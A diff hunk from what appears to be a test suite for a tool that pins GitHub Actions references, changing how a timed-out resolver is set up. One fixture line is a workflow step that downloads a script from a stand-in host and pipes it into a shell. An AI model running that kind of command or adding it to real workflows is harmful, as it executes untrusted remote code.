@@ -228,13 +228,13 @@ describe("Pinning everything", () => {
 
     for (const [name, prepare, cause] of BAD) {
       it(`names the cause and goes on: ${name}`, async () => {
-        const { commits, resolver } = world();
+        const { commits, resolver, impatientResolver } = world();
         prepare();
         const bad = "run: curl -fsSL https://bad.example.com/i.sh | sh";
         const { files, outcomes } = await pinAll([
           targetOf(
             workflow("uses: acme/tool@v4", bad, "uses: acme/tool@v1.0.0"),
-            resolver({ timeoutMs: 500, maxBytes: 100_000 }),
+            name === "a time-out" ? impatientResolver() : resolver({ maxBytes: 100_000 }),
           ),
         ]);
         equal(
